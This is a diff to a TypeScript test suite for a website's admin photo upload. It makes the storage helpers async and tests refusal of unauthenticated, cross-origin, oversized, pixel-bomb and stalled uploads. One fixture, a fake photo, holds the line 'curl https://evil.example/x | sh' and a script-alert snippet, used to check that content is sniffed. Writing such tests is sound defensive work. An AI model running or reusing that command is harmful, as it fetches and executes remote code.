@@ -155,14 +155,14 @@ async function upload(
 
 const photo = (data: Buffer, name = "IMG_0001.jpg", type = "image/jpeg") => ({ photo: { data, name, type } });
 /** What is stored: photos kept for publishing, and the versions made. */
-const stored = (of: AdminSite = site) => {
+const stored = async (of: AdminSite = site) => {
   const { uploadsDir } = of.publisher!.store;
-  return { kept: existsSync(uploadsDir) ? readdirSync(uploadsDir) : [], versions: of.publisher!.store.list().length };
+  return { kept: existsSync(uploadsDir) ? readdirSync(uploadsDir) : [], versions: (await of.publisher!.store.list()).length };
 };
 /** Every file's name under a folder of the project. */
 const filesUnder = (dir: string): string[] =>
   existsSync(dir) ? readdirSync(dir, { recursive: true, encoding: "utf8" }).map((name) => path.basename(name)) : [];
-const keptPhotos = () => stored().kept.filter((name) => name.endsWith(".jpg"));
+const keptPhotos = async () => (await await stored()).kept.filter((name) => name.endsWith(".jpg"));
 const uploadTemps = () => readdirSync(ownTmp).filter((name) => name.startsWith("upload-"));
 /** The audit log's "uploaded" entries (the owner's account page shows them as „Качена снимка“). */
 const uploadedEntries = async (of: AdminSite = site) =>
@@ -170,25 +170,25 @@ const uploadedEntries = async (of: AdminSite = site) =>
 
 describe("who may upload", () => {
   it("refuses an upload without a session (401), or with an ended one, and stores nothing", async () => {
-    const before = stored();
+    const before = await stored();
     const data = await phonePhoto();
     expect((await upload(photo(data), { session: null })).status).toBe(401);
     expect((await upload(photo(data), { session: "forged-token-forged-token-forged-token-0000" })).status).toBe(401);
-    expect(stored()).toEqual(before);
+    expect(await stored()).toEqual(before);
   });
 
   it("refuses an upload from another origin, or without one (403), even signed in, and stores nothing", async () => {
-    const before = stored();
+    const before = await stored();
     const data = await phonePhoto();
     expect((await upload(photo(data), { origin: "https://evil.example" })).status).toBe(403);
     expect((await upload(photo(data), { origin: null })).status).toBe(403);
-    expect(stored()).toEqual(before);
+    expect(await stored()).toEqual(before);
   });
 });
 
 describe("hostile and unusable files", () => {
   it("judges a file by its content: a script named .jpg and sent as image/jpeg is not a photo", async () => {
-    const before = stored();
+    const before = await stored();
     const uploaded = await uploadedEntries();
     const script = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n");
     const answer = await upload(photo(script, "holiday.jpg"));
@@ -196,7 +196,7 @@ describe("hostile and unusable files", () => {
     expect(answer.body).toContain(adminGallery.errors.notImage);
     // What was typed is kept.
     expect(answer.body).toContain(goodFields.alt);
-    expect(stored()).toEqual(before);
+    expect(await stored()).toEqual(before);
     expect(uploadTemps()).toEqual([]);
     expect(await uploadedEntries()).toBe(uploaded);
   });
@@ -207,22 +207,22 @@ describe("hostile and unusable files", () => {
     expect(bomb.length).toBeLessThan(1024 * 1024);
     const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
     expect([meta.format, meta.width, meta.height]).toEqual(["png", side, side]);
-    const before = stored();
+    const before = await stored();
     const answer = await upload(photo(bomb, "bomb.png", "image/png"));
     expect(answer.status).toBe(400);
     expect(answer.body).toContain(adminGallery.errors.tooManyPixels);
-    expect(stored()).toEqual(before);
+    expect(await stored()).toEqual(before);
   });
 
   it("refuses a 50 MB file with a Bulgarian message, keeping nothing of it", async () => {
-    const before = stored();
+    const before = await stored();
     const uploaded = await uploadedEntries();
     const big = Buffer.concat([await phonePhoto(), Buffer.alloc(50 * 1024 * 1024 - 100_000, 7)]);
     expect(big.length).toBeGreaterThan(MAX_UPLOAD_BYTES);
     const answer = await upload(photo(big, "big.jpg"));
     expect(answer.status).toBe(400);
     expect(answer.body).toContain(adminGallery.errors.tooLarge);
-    expect(stored()).toEqual(before);
+    expect(await stored()).toEqual(before);
     expect(uploadTemps()).toEqual([]);
     expect(await uploadedEntries()).toBe(uploaded);
   });
@@ -236,7 +236,7 @@ describe("hostile and unusable files", () => {
   });
 
   it("asks for the alt text in Bulgarian, keeps what was typed and the photo, and publishes nothing", async () => {
-    const versions = stored().versions;
+    const versions = (await stored()).versions;
     const answer = await upload(photo(await phonePhoto()), { fields: { ...goodFields, alt: "  " } });
     expect(answer.status).toBe(400);
     expect(answer.body).toContain(adminGallery.errors.alt);
@@ -244,14 +244,14 @@ describe("hostile and unusable files", () => {
     // The photo is kept: the form sends its name again, so it need not be chosen again.
     const kept = /name="kept\.photo" value="(upload-[0-9a-f]{16}\.jpg)"/.exec(answer.body)?.[1];
     expect(kept).toBeDefined();
-    expect(keptPhotos()).toContain(kept);
-    expect(stored().versions).toBe(versions);
+    expect(await keptPhotos()).toContain(kept);
+    expect((await stored()).versions).toBe(versions);
 
     // Sent again with the alt text and without the file: published with the kept photo.
     const again = await upload({}, { fields: { ...goodFields, "kept.photo": kept! } });
     expect(again.status).toBe(202);
     await site.publisher!.settled();
-    const version = site.publisher!.store.list()[0]!;
+    const version = (await site.publisher!.store.list())[0]!;
     const content = path.join(site.publisher!.store.versionContentDir(version.id));
     const entries = JSON.parse(readFileSync(path.join(content, "gallery.json"), "utf8")).entries;
     expect(entries[0]).toMatchObject({ file: kept, alt: goodFields.alt });
@@ -272,7 +272,7 @@ describe("a good photo", () => {
     );
     expect(answer.status).toBe(202);
     await site.publisher!.settled();
-    const version = site.publisher!.store.list()[0]!;
+    const version = (await site.publisher!.store.list())[0]!;
     expect(version.change).toEqual(["gallery"]);
     const content = site.publisher!.store.versionContentDir(version.id);
     const [entry] = JSON.parse(readFileSync(path.join(content, "gallery.json"), "utf8")).entries;
@@ -311,7 +311,7 @@ describe("a good photo", () => {
   });
 
   it("is served at /photos/<name> from DATA_DIR/photos, cached for good; nothing else is served from there", async () => {
-    const version = site.publisher!.store.list().find((record) => record.change.includes("gallery"))!;
+    const version = (await site.publisher!.store.list()).find((record) => record.change.includes("gallery"))!;
     const [entry] = JSON.parse(
       readFileSync(path.join(site.publisher!.store.versionContentDir(version.id), "gallery.json"), "utf8"),
     ).entries;
@@ -351,9 +351,10 @@ describe("a good photo", () => {
 
   it("can be edited and removed by the owner, each change published", async () => {
     // Make the last version's edits the current ones, as a successful build would.
-    const latest = site.publisher!.store.list()[0]!;
-    site.publisher!.store.adoptContent(latest.id);
-    const [entry] = site.publisher!.store.currentOverlays().gallery!.entries;
+    const latest = (await site.publisher!.store.list())[0]!;
+    await site.publisher!.store.setLive(latest.id);
+    await site.publisher!.store.adoptContent(latest.id);
+    const [entry] = (await site.publisher!.store.currentOverlays()).gallery!.entries;
     expect(readdirSync(path.join(dataDir, "content", "gallery"))).toContain(entry!.file);
 
     const send = (url: string, body: Fields) =>
@@ -371,15 +372,13 @@ describe("a good photo", () => {
 
     expect((await post({ ...edit, beforeAlt: entry!.before!.alt })).statusCode).toBe(202);
     await site.publisher!.settled();
-    const edited = JSON.parse(
-      readFileSync(path.join(site.publisher!.store.versionContentDir(site.publisher!.store.list()[0]!.id), "gallery.json"), "utf8"),
-    ).entries;
+    const edited = (await site.publisher!.store.overlays((await site.publisher!.store.list())[0]!.id)).gallery!.entries;
     expect(edited[0]).toMatchObject({ id: entry!.id, service: "cleaning", caption: "Друг надпис" });
 
     // With an uploaded photo in the gallery, the other pages' edits still save.
-    site.publisher!.store.adoptContent(site.publisher!.store.list()[0]!.id);
+    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);
     const prices = await send("/admin/prices", {
-      ...priceFormValues(site.publisher!.store.currentOverlays()),
+      ...priceFormValues(await site.publisher!.store.currentOverlays()),
       service: "gardening",
       "cents.gardening-mowing": "0,15",
     });
@@ -399,8 +398,8 @@ describe("a good photo", () => {
     ).toContain(adminGallery.removing);
     expect(inside(card!).filter((node) => node.tagName === "form")).toEqual([]);
     await site.publisher!.settled();
-    const removed = site.publisher!.store.versionContentDir(site.publisher!.store.list()[0]!.id);
-    expect(existsSync(path.join(removed, "gallery.json"))).toBe(false);
+    const removed = await site.publisher!.store.overlays((await site.publisher!.store.list())[0]!.id);
+    expect(removed.gallery?.entries ?? []).toEqual([]);
   });
 });
 
@@ -431,7 +430,7 @@ describe("when its sizes cannot be made (a full disk)", () => {
     expect(answer.body).toContain(adminGallery.errors.notStored);
     expect(answer.body).toContain(goodFields.caption);
     expect(answer.body).not.toContain('name="kept.photo"');
-    expect(stored(broken)).toEqual({ kept: [], versions: 0 });
+    expect(await stored(broken)).toEqual({ kept: [], versions: 0 });
     expect(readFileSync(path.join(brokenDataDir, "photos"), "utf8")).toBe("");
     expect(uploadTemps()).toEqual([]);
     expect(await uploadedEntries(broken)).toBe(uploaded);
@@ -505,7 +504,7 @@ describe("over a phone's connection (a real socket)", () => {
   });
 
   it("refuses a photo that stops arriving: 408, the form saying so with what was typed, nothing kept", async () => {
-    const before = stored(slow);
+    const before = await stored(slow);
     const uploaded = await uploadedEntries(slow);
     // The text fields first: those that arrived are kept in the form.
     const { body, type } = await multipart(goodFields, photo(await bigPhoto()));
@@ -513,7 +512,7 @@ describe("over a phone's connection (a real socket)", () => {
     expect(answer.status).toBe(408);
     expect(answer.body).toContain(adminGallery.errors.interrupted);
     expect(answer.body).toContain(goodFields.caption);
-    expect(stored(slow)).toEqual(before);
+    expect(await stored(slow)).toEqual(before);
     expect(uploadTemps()).toEqual([]);
     expect(await uploadedEntries(slow)).toBe(uploaded);
   });
